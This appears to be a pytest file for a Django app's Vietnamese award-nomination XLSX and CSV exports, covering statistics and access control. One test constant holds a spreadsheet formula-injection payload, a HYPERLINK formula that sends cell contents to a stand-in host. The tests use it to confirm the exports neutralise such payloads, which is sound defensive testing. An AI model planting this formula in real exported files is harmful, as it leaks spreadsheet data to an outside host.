"""Exports: nominations and results as XLSX and CSV, safe against formula injection, with the statistics."""

import csv
import io

import pytest
from openpyxl import load_workbook

from campaign.models import Gender
from dossiers.models import DossierState
from reports import exports
from tests.factories import (
    AcknowledgementFactory,
    DossierFactory,
    NominationFactory,
    ProgressReportFactory,
    StaffMemberFactory,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("during_emulation")]

HEADER_ROW = 6  # four heading lines, a blank line, then the column headers
INJECTION = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'


@pytest.fixture
def nominations(plan, unit, other_unit):
    submitted = DossierFactory(campaign=plan, unit=unit, state=DossierState.SUBMITTED)
    woman = StaffMemberFactory(unit=unit, full_name=INJECTION, gender=Gender.FEMALE, position="Chuyên viên")
    leader = StaffMemberFactory(unit=unit, full_name="Trần Văn Khoa", is_leader=True, position="Trưởng phòng")
    driver = StaffMemberFactory(unit=unit, full_name="Huỳnh Văn Tài", is_direct_worker=True, position="Lái xe")
    NominationFactory(dossier=submitted, kind="collective", staff=None, nominee_unit=unit)
    NominationFactory(dossier=submitted, staff=woman)
    NominationFactory(dossier=submitted, staff=leader)
    NominationFactory(dossier=submitted, staff=driver)
    draft = DossierFactory(campaign=plan, unit=other_unit)
    NominationFactory(dossier=draft, staff=StaffMemberFactory(unit=other_unit, full_name="Tô Thị Cẩm Tú"))
    return submitted


def workbook(response):
    assert response["Content-Type"] == exports.XLSX_TYPE
    return load_workbook(io.BytesIO(response.content))


def rows(sheet, start=HEADER_ROW):
    return [list(r) for r in sheet.iter_rows(min_row=start, values_only=True) if any(v is not None for v in r)]


def test_the_nominations_workbook_lists_every_nominee_in_unit_order(client, office, nominations):
    client.force_login(office)

    book = workbook(client.get(f"/ke-hoach/{nominations.campaign.pk}/xuat/de-nghi.xlsx"))

    sheet = book["Danh sách đề nghị"]
    assert sheet["A2"].value == "DANH SÁCH TẬP THỂ, CÁ NHÂN ĐƯỢC ĐỀ NGHỊ KHEN THƯỞNG"
    table = rows(sheet)
    assert table[0][:6] == ["STT", "Đơn vị", "Cấp khen thưởng", "Tập thể/Cá nhân", "Họ và tên / Tên tập thể", "Giới tính"]
    assert [(r[1], r[3], r[4], r[5], r[7], r[8], r[9]) for r in table[1:]] == [
        ("Phòng Quản lý Công nghiệp", "Tập thể", "Phòng Quản lý Công nghiệp", None, None, None, "Đã nộp"),
        ("Phòng Quản lý Công nghiệp", "Cá nhân", INJECTION, "Nữ", None, None, "Đã nộp"),
        ("Phòng Quản lý Công nghiệp", "Cá nhân", "Trần Văn Khoa", "Nam", "x", None, "Đã nộp"),
        ("Phòng Quản lý Công nghiệp", "Cá nhân", "Huỳnh Văn Tài", "Nam", None, "x", "Đã nộp"),
        ("Phòng Quản lý Thương mại", "Cá nhân", "Tô Thị Cẩm Tú", "Nam", None, None, "Nháp"),
    ]


def test_a_name_beginning_with_equals_stays_text_in_the_workbook(client, office, nominations):
    client.force_login(office)

    sheet = workbook(client.get(f"/ke-hoach/{nominations.campaign.pk}/xuat/de-nghi.xlsx"))["Danh sách đề nghị"]

    cell = next(c for row in sheet.iter_rows() for c in row if c.value == INJECTION)
    assert cell.data_type == "s"


def test_a_name_beginning_with_equals_is_escaped_in_the_csv(client, office, nominations):
    client.force_login(office)

    response = client.get(f"/ke-hoach/{nominations.campaign.pk}/xuat/de-nghi.csv")

    text = response.content.decode("utf-8")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert text.startswith("\ufeffSTT,Đơn vị,Cấp khen thưởng")
    names = [row[4] for row in csv.reader(io.StringIO(text.lstrip("\ufeff")))][1:]
    assert names[1] == "'" + INJECTION
    assert names[2] == "Trần Văn Khoa"


def test_the_statistics_sheet_counts_what_offices_report(client, office, nominations):
    client.force_login(office)

    sheet = workbook(client.get(f"/ke-hoach/{nominations.campaign.pk}/xuat/de-nghi.xlsx"))["Thống kê"]

    # The draft of the other unit is not counted: the office has not received it.
    assert rows(sheet)[:7] == [
        ["Chỉ tiêu", "Cấp cơ sở", "Cấp tỉnh", "Tổng cộng"],
        ["Tập thể", 1, 0, 1],
        ["Cá nhân", 3, 0, 3],
        ["   trong đó: nữ", 1, 0, 1],
        ["   trong đó: lãnh đạo, quản lý", 1, 0, 1],
        ["   trong đó: người trực tiếp lao động", 1, 0, 1],
        ["Tổng số tập thể, cá nhân", 4, 0, 4],
    ]


def test_the_results_workbook_gives_each_units_state(client, office, plan, items, unit, other_unit, leader, nominations):
    AcknowledgementFactory(campaign=plan, staff=leader.staff_member)
    ProgressReportFactory(content_item=items[1], unit=unit)
    client.force_login(office)

    book = workbook(client.get(f"/ke-hoach/{plan.pk}/xuat/ket-qua.xlsx"))

    table = rows(book["Kết quả theo đơn vị"])
    by_unit = {r[1]: r for r in table[1:]}
    assert by_unit["Phòng Quản lý Công nghiệp"][2:8] == [4, 1, 1, "100%", "1/9", "Đã nộp"]
    assert by_unit["Phòng Quản lý Công nghiệp"][9] == "Chưa có hồ sơ"
    assert by_unit["Phòng Quản lý Thương mại"][7] == "Nháp"
    assert by_unit["Tổng cộng"][11:] == [1, 4]
    assert set(book.sheetnames) == {"Kết quả theo đơn vị", "Hồ sơ", "Thống kê"}


def test_the_results_csv_has_one_line_per_unit_and_a_total(client, office, plan, unit, other_unit):
    client.force_login(office)

    text = client.get(f"/ke-hoach/{plan.pk}/xuat/ket-qua.csv").content.decode("utf-8").lstrip("\ufeff")

    lines = list(csv.reader(io.StringIO(text)))
    assert [line[1] for line in lines] == ["Đơn vị", "Phòng Quản lý Công nghiệp", "Phòng Quản lý Thương mại", "Tổng cộng"]


def test_unit_staff_cannot_export(client, plan, member):
    client.force_login(member)

    assert client.get(f"/ke-hoach/{plan.pk}/xuat/de-nghi.xlsx").status_code == 403


def test_an_unknown_export_is_not_found(client, plan, office):
    client.force_login(office)

    assert client.get(f"/ke-hoach/{plan.pk}/xuat/bi-mat.xlsx").status_code == 404
    assert client.get(f"/ke-hoach/{plan.pk}/xuat/de-nghi.pdf").status_code == 404
